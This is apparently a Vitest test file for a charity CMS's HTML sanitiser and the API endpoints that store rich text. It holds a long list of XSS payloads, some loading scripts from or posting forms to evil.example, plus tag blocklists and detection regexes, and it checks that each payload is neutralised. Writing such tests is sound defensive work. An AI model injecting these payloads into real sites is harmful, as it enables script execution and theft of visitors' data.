import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { App } from '../app.ts';
import { asCaller, createTestApp } from '../test-support/test-app.ts';
import { sanitizeRichText } from './sanitize-html.ts';

/** Rich text a hostile (or careless) editor could paste; none of it may run in a visitor's browser. */
const payloads = [
  '<script>alert(1)</script>',
  '<ScRiPt>alert(1)</sCrIpT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>alert(1);//<</script>',
  '<script src="https://evil.example/x.js"></script>',
  '<textarea><script>alert(1)</script></textarea>',
  '<img """><script>alert(1)</script>">',
  '<img src=x onerror=alert(1)>',
  '<IMG SRC="x" ONERROR="alert(1)">',
  '<img src=x:alert(alt) onerror=eval(src) alt=0>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<svg onload=alert(1)><circle r="5"/></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="https://evil.example/x.swf"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<a href="javascript:alert(1)">click</a>',
  '<a href="JaVaScRiPt:alert(1)">click</a>',
  '<a href=" javascript:alert(1)">click</a>',
  '<a/href="javascript:alert(1)">click</a>',
  '<a href="java\u0000script:alert(1)">click</a>',
  '<a href="vbscript:msgbox(1)">click</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="javascript:alert(1)">',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">click</a>',
  '<a href="&#x6A;avascript&#x3A;alert(1)">click</a>',
  '<a href="javascript&colon;alert(1)">click</a>',
  '<a href="jav&#x09;ascript:alert(1)">click</a>',
  '<a href="jav&#x0A;ascript:alert(1)">click</a>',
  '<a href="javascript:alert(1)" target="_blank">click</a>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<div style="width: expression(alert(1))">x</div>',
  '<style>body{background:url("javascript:alert(1)")}</style><p>after</p>',
  '<link rel="stylesheet" href="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><input type="submit"></form>',
  '<form action="https://evil.example/steal"><button>Go</button></form>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<p onclick="alert(1)">hi</p>',
  '<a href="https://ok.example" onmouseover="alert(1)">x</a>',
  '<table background="javascript:alert(1)"><tr><td onclick="alert(1)">x</td></tr></table>',
  '<template><script>alert(1)</script></template>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math href="javascript:alert(1)">click</math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<body onload=alert(1)>',
  '<img src="//evil.example/x.png">',
  '<a href="//evil.example/">x</a>',
];

const forbiddenTags = [
  ...['script', 'iframe', 'frame', 'object', 'embed', 'style', 'link', 'form', 'input', 'button', 'textarea'],
  ...['meta', 'base', 'svg', 'math', 'template', 'noscript', 'xmp', 'body', 'video', 'source', 'details'],
];

/** Attributes whose value the browser may load or navigate to. */
const urlAttributes = new Set(['href', 'src', 'action', 'formaction', 'background', 'data', 'poster', 'srcset', 'xlink:href']);

function decodeEntities(value: string) {
  const named: Record<string, string> = { amp: '&', lt: '<', gt: '>', quot: '"', apos: "'", colon: ':', tab: '\t', newline: '\n' };
  return value
    .replace(/&#x([0-9a-f]+);?/gi, (_, hex: string) => String.fromCodePoint(Number.parseInt(hex, 16)))
    .replace(/&#(\d+);?/g, (_, dec: string) => String.fromCodePoint(Number(dec)))
    .replace(/&([a-z]+);/gi, (whole, name: string) => named[name.toLowerCase()] ?? whole);
}

/** Every opening tag of a fragment with its attributes (quoted, single-quoted or bare). */
function tagsOf(html: string) {
  return [...html.matchAll(/<([a-zA-Z][^\s/>]*)([^>]*)>/g)].map(([, name, rest]) => ({
    name: name.toLowerCase(),
    attributes: [...rest.matchAll(/([^\s"'=<>/]+)(?:\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s"'=<>`]+)))?/g)].map(([, attr, dq, sq, bare]) => ({
      name: attr.toLowerCase(),
      value: decodeEntities(dq ?? sq ?? bare ?? ''),
    })),
  }));
}

/** The ways a fragment could run code or leave the site; empty when it is harmless. */
function dangersIn(html: string) {
  const found: string[] = [];
  if (/<script/i.test(html)) found.push('a <script');
  for (const tag of forbiddenTags) if (new RegExp(`<${tag}[\\s/>]`, 'i').test(html)) found.push(`a <${tag}> element`);
  for (const tag of tagsOf(html)) {
    for (const { name, value } of tag.attributes) {
      if (name.startsWith('on')) found.push(`${name}= on <${tag.name}>`);
      if (name === 'style' || name === 'srcdoc') found.push(`${name}= on <${tag.name}>`);
      // Browsers ignore tabs, newlines and control characters inside a scheme.
      const squeezed = [...value]
        .filter((c) => c.charCodeAt(0) > 0x20 && c.charCodeAt(0) !== 0x7f)
        .join('')
        .toLowerCase();
      if (/(javascript|vbscript|data):/.test(squeezed)) found.push(`a script or data URL in ${name}= on <${tag.name}>`);
      if (urlAttributes.has(name) && squeezed.startsWith('//')) found.push(`a protocol-relative URL in ${name}= on <${tag.name}>`);
    }
  }
  return found;
}

describe('sanitizeRichText', () => {
  it('the checks below recognise every payload as dangerous before it is sanitised', () => {
    const harmlessAsSent = payloads.filter((payload) => dangersIn(payload).length === 0);
    expect(harmlessAsSent).toEqual([]);
  });

  it.each(payloads)('leaves nothing that runs or leaves the site from %s', (payload) => {
    const clean = sanitizeRichText(payload);
    expect(dangersIn(clean), clean).toEqual([]);
    expect(clean).not.toMatch(/<script/i);
    expect(clean).not.toMatch(/\son[a-z]+\s*=/i);
    expect(clean).not.toMatch(/(javascript|vbscript|data):/i);
  });

  it('is stable: sanitising the sanitised output changes nothing', () => {
    for (const payload of payloads) expect(sanitizeRichText(sanitizeRichText(payload))).toBe(sanitizeRichText(payload));
  });

  it('keeps headings, paragraphs, emphasis and lists as written', () => {
    const html =
      '<h1>Our work</h1><h2>Schools</h2><h3>2024</h3><p>We run <strong>12</strong> <em>schools</em>.</p><ul><li>one</li><li>two</li></ul><ol><li>first</li></ol><blockquote>Thanks</blockquote>';
    expect(sanitizeRichText(html)).toBe(html);
  });

  it('keeps links to https, mailto and tel addresses and to pages of the site', () => {
    const html =
      '<a href="https://charity.example.org/donate" title="Donate">Give</a> <a href="mailto:info@charity.example.org">Mail</a> <a href="tel:+8801700000000">Call</a> <a href="/about">About</a>';
    expect(sanitizeRichText(html)).toBe(html);
  });

  it('keeps images with an https or site address, alt text and size', () => {
    expect(sanitizeRichText('<img src="https://cdn.example.org/a.jpg" alt="Children at school" width="300" height="200">')).toBe(
      '<img src="https://cdn.example.org/a.jpg" alt="Children at school" width="300" height="200" />',
    );
    expect(sanitizeRichText('<img src="/media/x.png" alt="x">')).toBe('<img src="/media/x.png" alt="x" />');
  });

  it('keeps tables with headers, spans and captions', () => {
    const html =
      '<table><caption>Funds</caption><thead><tr><th scope="col">Year</th><th>Amount</th></tr></thead><tbody><tr><td colspan="2">1000</td></tr></tbody></table>';
    expect(sanitizeRichText(html)).toBe(html);
  });

  it('keeps text that only looks like markup, escaped', () => {
    expect(sanitizeRichText('<p class="lead">x &amp; y &lt; z</p>')).toBe('<p class="lead">x &amp; y &lt; z</p>');
  });

  it('gives links that open a new tab rel="noopener noreferrer", replacing whatever rel was sent', () => {
    expect(sanitizeRichText('<a href="https://x.example" target="_blank">x</a>')).toBe(
      '<a href="https://x.example" target="_blank" rel="noopener noreferrer">x</a>',
    );
    expect(sanitizeRichText('<a href="https://x.example" target="_blank" rel="opener">x</a>')).toBe(
      '<a href="https://x.example" target="_blank" rel="noopener noreferrer">x</a>',
    );
  });

  it('drops the unsafe address of a link but keeps its text', () => {
    expect(sanitizeRichText('<p>Read <a href="javascript:alert(1)">this</a>.</p>')).toBe('<p>Read <a>this</a>.</p>');
  });
});

describe('rich text is sanitised when written through the API', () => {
  let app: App;
  let homeId: number;
  let sliderId: number;

  beforeAll(async () => {
    app = await createTestApp();
    const { menus } = (await app.inject({ method: 'GET', url: '/cms_menu/api/v1/cms_menu/get_all_nested_cms_menu' })).json();
    homeId = menus.find((m: { name: string }) => m.name === 'Home').id;
    sliderId = (await app.inject({ method: 'GET', url: '/homepage_slider/api/v1/homepage_slider/all/' })).json().homepage_sliders[0].id;
  });
  afterAll(() => app.close());

  // The database cannot store NUL; such payloads are refused before sanitising (tested below).
  const storable = payloads.filter((payload) => !payload.includes('\u0000'));

  it('refuses a payload holding the NUL character with 400, storing nothing', async () => {
    const nul = payloads.find((payload) => payload.includes('\u0000')) as string;
    const res = await app.inject({
      method: 'POST',
      url: '/cms_menu_content/api/v1/cms_menu_content/create/',
      headers: asCaller('cms_menu_content.create'),
      payload: { cms_menu: homeId, name: 'NUL probe', value: nul },
    });
    expect(res.statusCode).toBe(400);
    expect(res.json()).toEqual({ value: ['Must not contain the NUL character.'] });
    const read = await app.inject({ method: 'GET', url: `/cms_menu_content/api/v1/get_all_cms_menu_content_by_cms_menu_id/${homeId}` });
    expect(read.json().menu_contents).not.toHaveProperty('NUL probe');
  });

  it.each(storable.map((payload, n) => [n, payload] as const))(
    'POST /cms_menu_content/api/v1/cms_menu_content/create stores probe %i sanitised, and the public read shows it so',
    async (n, payload) => {
      const name = `XSS probe ${n}`;
      const created = await app.inject({
        method: 'POST',
        url: '/cms_menu_content/api/v1/cms_menu_content/create/',
        headers: asCaller('cms_menu_content.create'),
        payload: { cms_menu: homeId, name, value: payload },
      });
      expect(created.statusCode, created.body).toBe(201);
      expect(created.json().value).toBe(sanitizeRichText(payload));
      expect(dangersIn(created.json().value)).toEqual([]);

      const read = await app.inject({ method: 'GET', url: `/cms_menu_content/api/v1/get_all_cms_menu_content_by_cms_menu_id/${homeId}` });
      expect(read.statusCode).toBe(200);
      const shown = read.json().menu_contents[name];
      expect(shown).toBe(sanitizeRichText(payload));
      expect(dangersIn(shown)).toEqual([]);
    },
  );

  it.each(storable.map((payload, n) => [n, payload] as const))(
    'PATCH /homepage_slider/api/v1/homepage_slider/update/:id stores probe %i in the title sanitised, and the public list shows it so',
    async (_n, payload) => {
      const updated = await app.inject({
        method: 'PATCH',
        url: `/homepage_slider/api/v1/homepage_slider/update/${sliderId}`,
        headers: asCaller('homepage_slider.update'),
        payload: { title: payload },
      });
      expect(updated.statusCode, updated.body).toBe(200);
      expect(updated.json().title).toBe(sanitizeRichText(payload));

      const { homepage_sliders } = (await app.inject({ method: 'GET', url: '/homepage_slider/api/v1/homepage_slider/all/' })).json();
      const title = homepage_sliders.find((s: { id: number }) => s.id === sliderId).title;
      expect(title).toBe(sanitizeRichText(payload));
      expect(dangersIn(title)).toEqual([]);
    },
  );

  it('keeps legitimate rich text exactly as sent', async () => {
    const value =
      '<h2>Visit us</h2><p>Open <strong>daily</strong>, <a href="https://maps.example.org/x" target="_blank" rel="noopener noreferrer">map</a>.</p>';
    const created = await app.inject({
      method: 'POST',
      url: '/cms_menu_content/api/v1/cms_menu_content/create/',
      headers: asCaller('cms_menu_content.create'),
      payload: { cms_menu: homeId, name: 'Legitimate block', value },
    });
    expect(created.statusCode, created.body).toBe(201);
    const { menu_contents } = (
      await app.inject({ method: 'GET', url: `/cms_menu_content/api/v1/get_all_cms_menu_content_by_cms_menu_id/${homeId}` })
    ).json();
    expect(menu_contents['Legitimate block']).toBe(value);
  });
});
